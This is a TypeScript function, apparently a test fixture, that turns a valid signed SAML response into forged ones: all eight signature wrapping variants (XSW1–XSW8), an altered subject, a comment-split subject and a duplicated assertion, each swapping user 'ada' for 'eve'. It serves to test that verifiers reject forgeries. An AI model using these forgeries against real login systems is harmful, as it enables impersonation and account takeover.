// Forged SAML responses that an attacker without the signing key makes from a valid one: signature wrapping (XSW1 to
// XSW8, Somorovsky et al. 2012), changed texts, comments and copies.

/**
 * Returns the forged responses by name. The valid response is about the user ada, the forged ones are about eve. `id`
 * is the id of the valid assertion.
 */
export function createForgedResponses(good: string, id = '_x'): Record<string, string> {
  const signature = /<(?:ds:)?Signature .*?<\/(?:ds:)?Signature>/s.exec(good)?.[0] as string;
  const [assertion = ''] = /<saml:Assertion .*<\/saml:Assertion>/s.exec(good) ?? [];
  const forged = assertion
    .replace(/<(?:ds:)?Signature .*?<\/(?:ds:)?Signature>/s, '')
    .replace(`ID="${id}"`, 'ID="_evil"')
    .replaceAll('ada', 'eve');
  const unsigned = good.replace(signature, '');
  const inside = (xml: string, place: string, put: string): string => xml.replace(place, `${put}${place}`);
  const evilResponse = unsigned.replace(`ID="_r${id}"`, 'ID="_revil"').replaceAll('ada', 'eve');
  return {
    'XSW1: the original inside the Signature of a forged response': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature.replace('</Signature>', `<Object>${unsigned}</Object></Signature>`)}`,
    ),
    'XSW2: the original before the Signature': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${unsigned}${signature}`,
    ),
    'XSW3: a forged assertion before the signed one': inside(good, assertion, forged),
    'XSW4: the signed assertion inside the forged one': good.replace(
      assertion,
      forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    ),
    'XSW5: the forged assertion has the signature of the other': good.replace(
      assertion,
      forged.replace('</saml:Issuer>', `</saml:Issuer>${signature}`),
    ),
    'XSW6: the original inside the Signature of the forged assertion': good.replace(
      assertion,
      forged.replace(
        '</saml:Issuer>',
        `</saml:Issuer>${signature.replace('</Signature>', `<Object>${assertion}</Object></Signature>`)}`,
      ),
    ),
    'XSW7: a copy inside Extensions': good.replace(
      '<samlp:Status>',
      `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`,
    ),
    'XSW8: the original inside an Object of the forged one': good.replace(
      assertion,
      forged.replace(
        '</saml:Assertion>',
        `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${assertion}</Object></saml:Assertion>`,
      ),
    ),
    'a changed subject': good.replace('>ada<', '>eve<'),
    'a comment in the subject': good.replace('>ada<', '>ad<!-- -->a<'),
    'two assertions, both as the provider wrote them': inside(good, assertion, assertion),
  };
}
